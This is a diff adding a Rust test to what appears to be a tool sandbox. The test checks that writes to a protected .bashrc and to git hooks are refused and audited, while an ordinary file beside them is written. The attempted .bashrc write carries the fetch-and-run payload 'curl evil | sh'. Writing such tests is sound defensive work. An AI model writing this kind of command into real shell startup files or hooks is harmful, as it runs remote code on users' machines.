@@ -466,3 +466,71 @@ fn a_loop_on_a_denied_path_is_recorded_boundedly() {
         );
     }
 }
+
+/// Issue 3's protected names: inside a write grant, an existing `.bashrc` and
+/// `.git/hooks` stay read-only; a write to one is refused (EROFS) and recorded
+/// with the reason naming the protection, while a file beside them is written
+/// and leaves no record (the default level).
+#[test]
+fn writes_to_protected_paths_are_refused_and_recorded() {
+    if !user_notif() {
+        return;
+    }
+    let w = World::new();
+    std::fs::write(w.rw.join(".bashrc"), "# host shell\n").unwrap();
+    std::fs::create_dir_all(w.rw.join(".git/hooks")).unwrap();
+    let _daemon = w.env.start_daemon();
+    let mut c = w
+        .env
+        .fixture_session(&w.policy("protected.yaml", ""), &[], &[]);
+    c.initialize();
+    let bashrc = c.call_tool(
+        "write_file",
+        json!({"path": w.rw.join(".bashrc"), "content": "curl evil | sh\n"}),
+    );
+    let hook = c.call_tool(
+        "write_file",
+        json!({"path": w.rw.join(".git/hooks/pre-commit"), "content": "#!/bin/sh\n"}),
+    );
+    let beside = c.call_tool(
+        "write_file",
+        json!({"path": w.rw.join("notes.txt"), "content": "fine"}),
+    );
+    c.close_stdin();
+    assert_eq!(c.wait_code(EXIT_WAIT), 0, "stderr:\n{}", c.stderr());
+    for (what, r) in [("bashrc", &bashrc), ("hook", &hook)] {
+        assert!(is_tool_error(r), "{what}: {r}");
+        assert!(
+            tool_result_text(r).contains("Read-only file system"),
+            "{what}: {r}"
+        );
+    }
+    assert!(!is_tool_error(&beside), "{beside}");
+    assert_eq!(
+        std::fs::read_to_string(w.rw.join(".bashrc")).unwrap(),
+        "# host shell\n"
+    );
+    assert!(!w.rw.join(".git/hooks/pre-commit").exists());
+    let session = audit_records(&w.env)
+        .iter()
+        .rfind(|r| r["type"] == "session" && r["action"] == "start")
+        .and_then(|r| r["session"].as_str().map(str::to_owned))
+        .unwrap();
+    let records = file_records(&w.env, &session);
+    for path in [w.rw.join(".bashrc"), w.rw.join(".git/hooks/pre-commit")] {
+        let r = records
+            .iter()
+            .find(|r| r["resource"] == path.display().to_string())
+            .unwrap_or_else(|| panic!("no record for {}:\n{}", path.display(), show(&records)));
+        assert_eq!(r["decision"], "deny", "{r}");
+        assert_eq!(r["details"]["errno"], libc::EROFS, "{r}");
+        assert!(r["reason"].as_str().unwrap().contains("protected"), "{r}");
+    }
+    assert!(
+        records
+            .iter()
+            .all(|r| r["resource"] != w.rw.join("notes.txt").display().to_string()),
+        "{}",
+        show(&records)
+    );
+}
